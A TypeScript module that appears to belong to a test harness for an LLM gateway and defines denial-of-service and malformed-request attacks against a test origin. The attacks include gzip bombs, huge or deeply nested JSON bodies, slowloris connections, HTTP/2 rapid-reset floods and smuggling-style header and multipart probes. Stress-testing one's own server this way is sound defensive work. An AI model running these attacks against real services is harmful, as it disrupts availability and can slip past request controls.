import { connect as connectHttp2 } from "node:http2";
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { post } from "../../harness/client.ts";
import { raw } from "../../harness/raw.ts";
import type { Attack } from "../attack.ts";
import { repeat, untilAborted } from "../repeat.ts";

const mebibyte = 1 << 20;
const gzip = { "content-encoding": "gzip" };

function filled(unit: string, bytes: number, head = '{"model":"m",', tail = '"z":1}'): Buffer {
  const piece = Buffer.from(unit);
  const count = Math.floor((bytes - head.length - tail.length) / piece.length);
  return Buffer.concat([
    Buffer.from(head),
    Buffer.alloc(count * piece.length, piece),
    Buffer.from(tail),
  ]);
}

/** Sends one body repeatedly. */
function bodies(
  name: string,
  body: () => Buffer,
  headers: Record<string, string> = {},
  everyMs = 1_000,
): Attack {
  return {
    name,
    way: "client",
    async run({ origin }, signal) {
      const made = body();
      await repeat(everyMs, signal, () => post(origin, made, { headers }));
      return undefined;
    },
  };
}

const escapedKey = '"\\/":1,';
const distinctKeys = () => {
  const keys = Array.from({ length: 80_000 }, (_, i) => `"k${i}":1`).join(",");
  return Buffer.from(`{"model":"m","stream":true,"stream_options":{${keys}},"messages":[]}`);
};

/** 500 a second. */
const [openedAtOnce, openEveryMs] = [5, 10];

/** Connections that are open and say little. */
function slow(name: string, count: number, head: string, everyMs: number): Attack {
  return {
    name,
    way: "client",
    async run({ origin }, signal) {
      const { hostname, port } = new URL(origin);
      const sockets: Socket[] = [];
      // All at once they would be a burst of load, and what they hold is the attack.
      while (sockets.length < count && !signal.aborted) {
        const socket = connect(Number(port), hostname);
        socket.on("error", () => {}).resume();
        socket.write(head);
        sockets.push(socket);
        if (sockets.length % openedAtOnce === 0) await sleep(openEveryMs);
      }
      const timer = setInterval(() => {
        for (const socket of sockets) if (socket.writable) socket.write("x");
      }, everyMs);
      await untilAborted(signal);
      clearInterval(timer);
      for (const socket of sockets) socket.destroy();
      return undefined;
    },
  };
}

const start = "POST /v1/chat/completions HTTP/1.1\r\nhost: example.com\r\n";
const wideHeaders = Array.from({ length: 45 }, (_, i) => `x-llm-d-h${i}: ${"v".repeat(1_000)}\r\n`);

/** What a client sends once, and what must come of it. */
function probe(name: string, once: (origin: string) => Promise<string | undefined>): Attack {
  return {
    name,
    way: "client",
    async run({ origin }, signal) {
      const wrong = await once(origin);
      await repeat(500, signal, () => once(origin));
      return wrong;
    },
  };
}

/** Undefined where each of the requests is refused in OpenAI's shape. */
async function shapeFault(
  origin: string,
  requests: readonly string[],
): Promise<string | undefined> {
  for (const bytes of requests) {
    const { status, body } = await raw(origin, bytes);
    if (status < 400 || !body.includes('"error"')) {
      return `${JSON.stringify(bytes.slice(-40))} answered ${status} ${body.slice(0, 60)}`;
    }
  }
  return undefined;
}

const refused = [
  "POST /v1/%00 HTTP/1.1\r\nhost: example.com\r\ncontent-length: 2\r\n\r\n{}",
  `${start}connection: upgrade\r\nupgrade: websocket\r\n\r\n`,
];
const strangelyCoded = [`${start}transfer-encoding: xchunked\r\n\r\n`];

async function isNoStranger(origin: string): Promise<string | undefined> {
  const headers = { "x-llm-d-model-name-rewrite": "secret-lora" };
  const { status, text } = await post(origin, '{"model":"m","messages":[]}', { headers });
  // Taken off at the edge, so the model is the body's.
  return status === 200 && !text.includes("secret") ? undefined : `${status} ${text.slice(0, 80)}`;
}

async function isLateModelRefused(origin: string): Promise<string | undefined> {
  const part = (name: string, value: string) =>
    `--b\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
  const parts = Array.from({ length: 140 }, (_, i) => part(i === 0 ? "model" : "x", "m"));
  const body = `${parts.join("")}${part("model", "secret")}--b--\r\n`;
  const { status } = await post(origin, body, {
    path: "/v1/audio/transcriptions",
    headers: { "content-type": "multipart/form-data; boundary=b" },
  });
  return status >= 400 && status < 500 ? undefined : `answered ${status}`;
}

const rapidReset: Attack = {
  name: "HTTP/2: streams that are reset at once",
  way: "client",
  async run({ origin }, signal) {
    await repeat(100, signal, async () => {
      const session = connectHttp2(origin);
      session.on("error", () => {});
      for (let i = 0; i < 50 && !session.closed; i++) {
        const stream = session.request({
          ...{ ":method": "POST", ":path": "/v1/chat/completions", ":authority": "example.com" },
        });
        stream.on("error", () => {});
        stream.end('{"model":"m"}');
        setImmediate(() => stream.close(8));
      }
      await new Promise((resolve) => setTimeout(resolve, 50));
      session.destroy();
    });
    return undefined;
  },
};

export const clientAttacks: readonly Attack[] = [
  bodies("10 MB of escaped keys", () => filled(escapedKey, 9.8e6)),
  bodies("30 MiB of escaped keys, gzip", () => gzipSync(filled(escapedKey, 30 * mebibyte)), gzip),
  bodies(
    "30 MiB of one key, gzip, with a rewrite",
    () => gzipSync(filled('"model":"m",', 30 * mebibyte, "{", '"model":"m"}')),
    { ...gzip, "x-llm-d-model-name-rewrite": "o" },
  ),
  bodies(
    "gzip bombs, ten a second",
    () => gzipSync(filled("x", 31 * mebibyte, '{"model":"m","p":"', '"}'), { level: 9 }),
    gzip,
    100,
  ),
  bodies("10 MB of escapes", () => filled("\\n", 9.8e6, '{"model":"m","p":"', '"}')),
  bodies("10 MB of white space", () => filled(" ", 9.8e6)),
  bodies("5 MB of open brackets", () => filled("[", 5e6, '{"model":"m","x":', "")),
  bodies("1 MB of stream_options, mirrored", distinctKeys),
  bodies("30 MB prompts", () => filled("x", 29e6, '{"model":"m","p":"', '"}'), {}, 1_000),
  slow("200 bodies at a byte a second", 200, `${start}content-length: 5000\r\n\r\n{`, 1_000),
  slow(
    "1,000 held requests with wide headers",
    1_000,
    `${start}${wideHeaders.join("")}content-length: 5000\r\n\r\n`,
    60_000,
  ),
  rapidReset,
  probe("refusals in OpenAI's shape", (origin) => shapeFault(origin, refused)),
  probe("an unknown transfer coding", (origin) => shapeFault(origin, strangelyCoded)),
  probe("a control header for another model", isNoStranger),
  probe("a form's model behind the 128th part", isLateModelRefused),
];
